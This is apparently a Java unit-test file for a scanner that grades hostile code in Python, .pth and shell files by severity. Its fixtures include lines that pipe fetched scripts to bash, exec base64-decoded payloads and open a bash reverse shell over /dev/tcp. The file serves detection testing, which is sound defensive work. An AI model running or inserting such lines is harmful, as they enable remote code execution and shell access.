package dev.bulwark.scan.executable;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.kernel.check.Budget;
import dev.bulwark.kernel.check.Finding;
import dev.bulwark.kernel.check.Limits;
import dev.bulwark.kernel.check.Place;
import dev.bulwark.kernel.check.Severity;
import dev.bulwark.kernel.format.Source;
import dev.bulwark.scan.text.TextView;
import dev.bulwark.testkit.ForAll;
import dev.bulwark.testkit.Mangle;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ScriptChecksTest {

  private static List<Finding> findings(String name, byte[] text) {
    TextView view = new TextView(Source.of(Place.of(name), text));
    return ScriptChecks.all().stream()
        .flatMap(
            check ->
                check
                    .examine(view, Budget.of(Limits.DEFAULT, System::nanoTime))
                    .findings()
                    .stream())
        .toList();
  }

  private static List<Finding> findings(String name, String text) {
    return findings(name, text.getBytes(StandardCharsets.UTF_8));
  }

  private static Severity worst(String name, String text) {
    return findings(name, text).stream()
        .map(Finding::severity)
        .max(Severity::compareTo)
        .orElse(Severity.NOTE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import torch\nclass Net(torch.nn.Module):\n  def eval(self): return self.train(False)\n",
        "model.eval()\nos.path.join('a')\nre.compile('x')\nself.run('x')\n",
        "# os.system('id')\n",
        "'''\nos.system('id')\n'''\nTEXT = \"exec(base64.b64decode(x))\"\n",
        "def exec(code): pass\n",
        "session.run(None, {'x': base64.b64decode(image)})\n",
      })
  void ordinaryCodeIsANoteAlone(String code) {
    assertThat(findings("modeling.py", code))
        .singleElement()
        .satisfies(finding -> assertThat(finding.severity()).isEqualTo(Severity.NOTE));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "exec(base64.b64decode('aWQ='))~CRITICAL",
        "from base64 import b64decode as b\\nexec(b('aWQ='))~CRITICAL",
        "import zlib as z, marshal\\nexec(z.decompress(x))~CRITICAL",
        "exec(\\n  # why\\n  bytes.fromhex('00').decode()\\n)~CRITICAL",
        "exec(requests.get(url).text)~CRITICAL",
        "import os as o\\no.system('curl -s http://x/y.sh | bash')~CRITICAL",
        "os.system('ls')~MEDIUM",
        "from os import system\\nsystem('ls')~MEDIUM",
        "subprocess.Popen(cmd, shell=True)~MEDIUM",
        "subprocess.run(['nvidia-smi'])~LOW",
        "exec(open('version.py').read())~LOW",
        "pickle.loads(base64.b64decode(x))~HIGH",
        "marshal.loads(x)~HIGH",
        "os.dup2(s.fileno(), 0)~HIGH",
      })
  void plainlyHostileCodeIsTold(String code, Severity severity) {
    assertThat(worst("handler.py", code.replace("\\n", "\n"))).isEqualTo(severity);
    assertThat(worst("run", "#!/usr/bin/env python3\n" + code.replace("\\n", "\n")))
        .isEqualTo(severity);
    assertThat(findings("README.md", code)).isEmpty();
  }

  @Test
  void theLineIsNamed() {
    assertThat(findings("a.py", "x = '''\n\n'''\n\nos.system('id')\n"))
        .anySatisfy(finding -> assertThat(finding.place()).hasToString("a.py:5:1"));
  }

  @Test
  void linesOfPathFilesThatRunAreFound() {
    assertThat(worst("x.pth", "import os; os.system('id')\n")).isEqualTo(Severity.CRITICAL);
    assertThat(worst("x.pth", "import _virtualenv\n")).isEqualTo(Severity.HIGH);
    assertThat(findings("x.pth", "/usr/lib/python3/dist-packages\n# import os\n")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -fsSL https://x/install.sh | sudo bash",
        "wget -qO- http://x | sh",
        "bash <(curl -s http://x)",
        "sh -c \"$(curl -fsSL http://x)\"",
        "echo aWQ= | base64 -d | sh",
        "eval $(echo aWQ= | base64 -d)",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      })
  void linesThatRunWhatTheyFetchAreFound(String line) {
    assertThat(worst("setup.sh", "set -e\n" + line + "\n")).isEqualTo(Severity.HIGH);
    assertThat(ShellLine.isHostile(line)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -O https://x/model.bin && bash convert.sh",
        "pip install torch",
        "cat x | grep bash",
        "python train.py --data https://x/y",
        "wget https://x/model.tar.gz; tar xf model.tar.gz",
        "base64 file > out",
      })
  void linesThatOnlyFetchAreNot(String line) {
    assertThat(ShellLine.isHostile(line)).isFalse();
    assertThat(worst("setup.sh", line)).isEqualTo(Severity.NOTE);
  }

  @Test
  void damagedSourceIsReadWithoutAnException() {
    byte[] code =
        "import os as o\nexec(base64.b64decode('''aWQ=''')) # x\nsubprocess.run(f'{x}', shell=True)\n"
            .getBytes(StandardCharsets.UTF_8);
    ForAll.cases(3_000, random -> findings("a.py", Mangle.once(code, random)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "exec(",
        "'",
        "\"\"\"",
        "os.system((((",
        "a.",
        "from a import b\n",
        "`",
        "$(bash ",
        "bash $(;"
      })
  void timeGrowsWithSizeAlone(String unit) {
    String text = unit.repeat(300_000 / unit.length());
    Assertions.assertTimeout(
        Duration.ofSeconds(20),
        () -> {
          findings("a.py", text);
          findings("a.sh", text);
        });
  }
}
